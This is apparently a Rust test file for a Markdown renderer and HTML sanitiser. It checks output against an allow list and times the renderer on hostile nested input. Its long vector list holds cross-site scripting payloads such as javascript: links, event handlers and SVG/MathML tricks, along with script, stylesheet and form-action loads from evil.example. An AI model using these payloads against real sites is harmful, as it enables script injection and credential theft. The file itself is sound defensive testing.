//! Tests with texts made to break out of a page or to wear a server down.

use std::{cell::RefCell, time::Duration};

use html5ever::{
    TokenizerResult,
    tendril::StrTendril,
    tokenizer::{BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts},
};
use proptest::prelude::*;

use super::{
    Place, elements, html,
    sanitise::{ATTRIBUTES, REL, sanitise},
    text,
};

const PLACE: Place<'_> = Place { prefix: "imaging", level: 2 };

/// What a parser finds wrong with some HTML.
#[derive(Default)]
struct Inspection {
    faults: RefCell<Vec<String>>,
    open: RefCell<Vec<String>>,
}

impl TokenSink for Inspection {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        let fault = |fault: String| self.faults.borrow_mut().push(fault);
        match token {
            Token::TagToken(tag) => {
                let name = tag.name.to_string();
                let allowed = ATTRIBUTES.iter().find(|(tag, _)| *tag == name).map_or(&[][..], |(_, names)| names);
                if !elements::names().any(|known| known == name) {
                    fault(format!("element <{name}>"));
                }
                for attribute in &tag.attrs {
                    let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
                    let is_allowed = match (name.as_str(), key.as_str()) {
                        ("a", "rel") => value == REL,
                        ("a", "href") => ["https://", "mailto:", "#fn--", "#fnref--"].iter().any(|start| {
                            value.get(..start.len()).is_some_and(|found| found.eq_ignore_ascii_case(start))
                        }),
                        ("ol", "class") => value == "footnotes",
                        (_, "id") => value.contains("imaging--") && allowed.contains(&"id"),
                        (_, key) => allowed.contains(&key),
                    };
                    if !is_allowed {
                        fault(format!("attribute {key}={value:?} of <{name}>"));
                    }
                }
                let has = |name: &str| tag.attrs.iter().any(|attribute| &*attribute.name.local == name);
                if has("href") && !has("rel") {
                    fault("link without rel".to_owned());
                }
                let mut open = self.open.borrow_mut();
                match tag.kind {
                    TagKind::StartTag if matches!(name.as_str(), "br" | "wbr" | "hr") => {}
                    TagKind::StartTag => open.push(name),
                    TagKind::EndTag if open.last() == Some(&name) => {
                        open.pop();
                    }
                    TagKind::EndTag => fault(format!("</{name}> inside {open:?}")),
                }
            }
            Token::CommentToken(comment) => fault(format!("comment {comment}")),
            Token::DoctypeToken(_) => fault("doctype".to_owned()),
            Token::NullCharacterToken => fault("NUL".to_owned()),
            Token::ParseError(error) => fault(format!("parse error: {error}")),
            Token::CharacterTokens(_) | Token::EOFToken => {}
        }
        TokenSinkResult::Continue
    }
}

/// What is wrong with the HTML.
fn faults(html: &str) -> Vec<String> {
    let tokenizer = Tokenizer::new(Inspection::default(), TokenizerOpts { exact_errors: true, ..Default::default() });
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    while !matches!(tokenizer.feed(&input), TokenizerResult::Done) {}
    tokenizer.end();
    let mut faults = tokenizer.sink.faults.into_inner();
    let open = tokenizer.sink.open.into_inner();
    if !open.is_empty() {
        faults.push(format!("left open: {open:?}"));
    }
    faults
}

fn assert_harmless(markdown: &str) -> String {
    let rendered = html(markdown, PLACE);
    assert_eq!(faults(&rendered), [""; 0], "{markdown:?} gave {rendered:?}");
    assert_eq!(sanitise(&rendered), rendered, "sanitising {markdown:?} again changes it");
    rendered
}

/// Vectors after the usual cheat sheets (OWASP, PortSwigger, html5sec, the Markdown collections), Markdown first.
const VECTORS: &[&str] = &[
    "[a](javascript:alert(1))",
    "<p><pre>\n\n<select>\n\n<a>",
    "<pre>\n\n\n\n\na",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;&#97;vascript:alert(1))",
    "[a](java&Tab;script:alert(1))",
    "[a](java\nscript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](\u{1}javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](https://example.org/\"onmouseover=\"alert(1))",
    "[a](https://example.org \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "[a](https://example.org '\"><script>alert(1)</script>')",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "<https://example.org/\"><img/src/onerror=alert(1)>",
    "![a](javascript:alert(1))",
    "![a\"onerror=\"alert(1)](https://example.org/x.png)",
    "![a](https://example.org/x.png\"onerror=\"alert(1))",
    "![<img src=x onerror=alert(1)>](x)",
    "# <script>alert(1)</script>",
    "# x\" onclick=alert(1) y=\"",
    "```\"onmouseover=alert(1)\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "[^x\"onclick=alert(1)]\n\n[^x\"onclick=alert(1)]: <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| </td></table><img src=x onerror=alert(1)> | c |",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1);//<</script>",
    "x <script>alert(1)</script> y",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=javascript:alert(1)>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    "<img src='https://example.org/x.png' alt='\"><script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><a xlink:href=javascript:alert(1)>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title></head><body background=javascript:alert(1)>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<meta charset=utf-7>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>x",
    "<p style=\"position:fixed;inset:0;background:url(https://evil.example)\">x</p>",
    "<div style=width:expression(alert(1))>x</div>",
    "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
    "<p id=location name=body class=admin>x</p>",
    "<a id=imaging--mri name=x>x</a>",
    "<a href=https://example.org id=defaultView target=_blank rel=opener ping=https://evil.example>x</a>",
    "<form id=test><a id=attributes name=attributes></form>",
    "<h2 id=fn--imaging--1>x</h2>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#x0A;script:alert(1)\">x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=\"https://example.org\" href=\"javascript:alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=https://example.org onclick=alert(1)>x</a>",
    "<a href=\"https://example.org\">x <a href=\"https://example.org\">y</a></a>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    "<table><td><table><tr><td>x</table>y<p>z</table><b>w",
    "<table>x<tr>y<td>z</table>",
    "<td colspan=1000000000 rowspan=-1>x</td>",
    "<table><tr><td colspan=1000000000 rowspan=-1 scope=\"x\" align=\"x\">x</table>",
    "<ol start=99999999999999999999><li>x<li>y</ol>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><script>alert(1)</script>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<a/onclick=alert(1)/href=https://example.org>x",
    "<b/alt='1'onmouseover=alert(1)>x</b>",
    "<x onclick=alert(1)>x</x>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<slot name=x><dialog open>x</dialog></slot>",
    "<p><b><p><i>x</b></p></i>",
    "</div></article></main></body></html><script>alert(1)</script>",
    "<pre>\n\n\nx</pre>",
    "<b\u{0}>x</b>\u{0}<scr\u{0}ipt>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "<a href=\"https://example.org\\\" onclick=alert(1)\">x</a>",
    "<ruby>x<rt>y</ruby><nobr>a<nobr>b",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>b</div>",
];

#[test]
fn no_vector_leaves_an_element_or_attribute_that_is_not_on_the_list() {
    assert!(VECTORS.len() >= 40);
    for vector in VECTORS {
        for around in
            ["{}", "> {}", "- {}", "**x {} y**", "<details>\n\n{}\n\n</details>", "<table><tr><td>{}", "<div>{}"]
        {
            assert_harmless(&around.replace("{}", vector));
        }
        text(vector);
    }
}

#[test]
fn the_inspection_finds_what_is_not_allowed() {
    for (html, count) in [
        ("<p>fine</p>", 0),
        ("<script></script>", 2),
        ("<p onclick=x>y</p>", 1),
        ("<a href=\"javascript:x\" rel=\"noopener noreferrer nofollow\">y</a>", 1),
        ("<a href=\"https://example.org\">y</a>", 1),
        ("<p id=\"x\">y</p>", 1),
        ("<p>y", 1),
        ("<!-- x -->", 1),
    ] {
        assert_eq!(faults(html).len(), count, "{html}");
    }
}

#[test]
fn the_sanitiser_needs_no_help_from_the_writer() {
    for vector in VECTORS {
        let faults: Vec<String> =
            faults(&sanitise(vector)).into_iter().filter(|fault| !fault.starts_with("parse error")).collect();
        assert_eq!(faults, [""; 0], "{vector:?}");
    }
}

/// How long this thread has been at work: however busy the machine is with others, that says what something costs.
fn worked() -> Duration {
    let time = rustix::time::clock_gettime(rustix::time::ClockId::ThreadCPUTime);
    Duration::new(
        time.tv_sec.try_into().expect("no negative time"),
        time.tv_nsec.try_into().expect("a part of a second"),
    )
}

#[test]
fn hostile_nesting_and_repetition_cost_little() {
    const BYTES: usize = 64 * 1024;
    let fill = |unit: &str| unit.repeat(BYTES / unit.len());
    let halves = |first: &str, second: &str| {
        format!("{}\n\n{}", &first.repeat(BYTES / 2 / first.len()), second.repeat(BYTES / 2 / second.len()))
    };
    let numbered = |make: fn(usize) -> String| {
        let mut text = String::new();
        for number in 0.. {
            let next = make(number);
            if text.len() + next.len() > BYTES {
                break;
            }
            text += &next;
        }
        text
    };
    let texts = [
        (">", fill(">")),
        ("[", fill("[")),
        ("![", fill("![")),
        ("[a](", fill("[a](")),
        ("]", fill("]")),
        ("- ", fill("- ")),
        ("1. ", fill("1. ")),
        ("> - ", fill("> - ")),
        ("*a ", fill("*a ")),
        ("**a_ ", fill("**a_ ")),
        ("*a", fill("*a")),
        ("_a_*", fill("_a_*")),
        ("~~a", fill("~~a ")),
        ("`", numbered(|n| format!("{} ", "`".repeat(n)))),
        ("<", fill("<")),
        ("<b>", fill("<b>")),
        ("a <b>", fill("a <b> ")),
        ("<a <a", fill("<a ")),
        ("<!--", fill("<!-- ")),
        ("a<!-", fill("a <!-- ")),
        ("<div>", fill("<div>")),
        ("<div>\\n", fill("<div>\n\n")),
        ("<table>", fill("<table>")),
        ("<table><td>", fill("<table><tr><td>")),
        ("<table>x<i>", format!("<table>{}", fill("<i></i>x<tr>"))),
        ("<b n>", numbered(|n| format!("<b title={n}>"))),
        (
            "<b n>\\np",
            format!(
                "{}\n\n{}",
                numbered(|n| format!("<b title={n}>"))[..BYTES / 2].to_owned(),
                "a\n\n".repeat(BYTES / 6)
            ),
        ),
        ("<i n> p", halves("<i><s>", "<p>")),
        ("attributes", format!("<a {}>", fill("a b "))),
        ("attributes n", format!("<td {}>", numbered(|n| format!("a{n} ")))),
        ("<p>", fill("<p>")),
        ("<li>", fill("<ul><li>")),
        ("<script>", fill("<script>\n\n")),
        ("</", fill("</a ")),
        ("&amp;", fill("<b>&amp;")),
        ("&amp; block", format!("<div>{}", fill("<i>&eacute;</i>"))),
        ("&", fill("&")),
        ("# a", fill("# a\n")),
        ("# n", numbered(|n| format!("# a-{n}\n# a\n"))),
        ("footnotes", format!("{}\n\n[^a]: b", fill("[^a]"))),
        ("footnotes n", numbered(|n| format!("[^{n}]\n\n[^{n}]: b\n\n"))),
        ("[^", fill("[^")),
        ("references", format!("{}\n\n[a]: https://example.org/{}", "[a]".repeat(BYTES / 6), "b".repeat(BYTES / 2))),
        ("references n", numbered(|n| format!("[{n}]: https://a.b/{n}\n"))),
        ("[a]:", fill("[a]: ")),
        ("wide table", format!("{}\n{}\n{}", "|a".repeat(BYTES / 8), "|-".repeat(BYTES / 8), "|b\n".repeat(BYTES / 6))),
        ("long table", format!("|a|b|\n|-|-|\n{}", fill("|c|d|\n"))),
        ("headed table", format!("|{}|\n|-|\n{}", "h".repeat(60), fill("|c\n"))),
        ("|", fill("|")),
        ("a|b", fill("a|b\n-|-\n")),
        ("@", fill("a@b.")),
        ("www.", fill("www.")),
        ("https://", fill("https://a.")),
        ("www. (", fill("www.a.b((")),
        ("a@", fill("a@")),
        (":", fill(":")),
        ("lists in lines", numbered(|n| format!("{}- a\n", "  ".repeat(n)))),
        ("deep then blank", format!("{}a\n{}", "> ".repeat(10_000), "\n".repeat(BYTES / 2))),
        ("deep list then blank", format!("{}a\n{}", "- ".repeat(BYTES / 4), "\n".repeat(BYTES / 2))),
        ("deep quotes, lazy", format!("{}a\n{}", ">".repeat(BYTES / 2), "a\n".repeat(BYTES / 4))),
        ("images", fill("![a](b)")),
        ("nested images", format!("{}a{}", "![".repeat(BYTES / 8), "](b)".repeat(BYTES / 8))),
        ("links", fill("[a](https://b) ")),
        ("words", fill("word ")),
        ("code", fill("```\na\n```\n")),
        ("\\n", fill("\n")),
        ("spaces", fill(" ")),
        ("tabs", fill("\t")),
        ("- [ ] a", fill("- [ ] a\n")),
        ("NUL", fill("\0")),
        ("é", fill("é")),
        ("£", fill("£")),
        ("title", format!("[a](https://b \"{}\")", fill("&"))),
        ("`&`", fill("`&`")),
        ("*&*", fill("*&* ")),
    ];
    for (name, markdown) in &texts {
        let start = worked();
        html(markdown, PLACE);
        let html_took = worked() - start;
        let start = worked();
        text(markdown);
        let text_took = worked() - start;
        // The slowest takes a second of a debug build; what grows with the square of the length takes many.
        assert!(html_took.max(text_took) < Duration::from_secs(4), "{name}: {html_took:?} {text_took:?}");
    }
}

#[test]
fn deep_nesting_loses_marks_and_no_words() {
    for (mark, count) in [("> ", 10_000), ("- ", 10_000), ("*", 10_000), ("[", 10_000), ("<div>", 10_000)] {
        let markdown = format!("{}word", mark.repeat(count));
        assert!(assert_harmless(&markdown).contains("word"), "{mark}");
        assert!(text(&markdown).contains("word"), "{mark}");
    }
}

fn markdown() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        "[a-z]{1,3}",
        "\\PC{1,3}",
        prop::sample::select(vec![
            " ",
            "\n",
            "\n\n",
            "\n    ",
            "\t",
            "> ",
            "- ",
            "- [x] ",
            "1. ",
            "# ",
            "*",
            "**",
            "_",
            "~~",
            "`",
            "```\n",
            "[",
            "]",
            "(",
            ")",
            "![",
            "](https://a.b)",
            "](javascript:a)",
            "<",
            ">",
            "&",
            "&amp;",
            "&lt;",
            "&#0;",
            "&#x3c;",
            "\"",
            "'",
            "\\",
            "|",
            "\n|-|-|\n",
            "[^1]",
            "\n[^1]: ",
            "www.a.b",
            "a@b.c",
            "\0",
            "\u{1}",
            "\u{a0}",
            "£",
        ])
        .prop_map(str::to_owned),
        (
            prop::sample::select(vec!["<", "</", "\n\n<"]),
            prop::sample::select(vec![
                "a",
                "b",
                "p",
                "div",
                "table",
                "tr",
                "td",
                "th",
                "caption",
                "tbody",
                "li",
                "ul",
                "dl",
                "dd",
                "details",
                "summary",
                "h1",
                "h2",
                "pre",
                "br",
                "hr",
                "img",
                "script",
                "style",
                "svg",
                "math",
                "mtext",
                "title",
                "textarea",
                "select",
                "option",
                "form",
                "button",
                "nobr",
                "font",
                "template",
                "iframe",
                "noscript",
                "body",
                "html",
                "frameset",
                "plaintext",
                "i",
                "code",
                "sub",
                "q",
                "!--",
                "blockquote",
            ]),
            prop::sample::select(vec![">", " href=https://a.b>", " id=x onclick=y>", "/>", " title='", "\n"])
        )
            .prop_map(|(open, name, end)| format!("{open}{name}{end}")),
    ];
    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn any_markdown_is_rendered_harmless(markdown in markdown()) {
        assert_harmless(&markdown);
        text(&markdown);
    }

    #[test]
    fn the_sanitiser_alone_makes_any_markup_harmless(markup in markdown()) {
        let faults: Vec<String> =
            faults(&sanitise(&markup)).into_iter().filter(|fault| !fault.starts_with("parse error")).collect();
        prop_assert_eq!(faults, [""; 0]);
    }
}
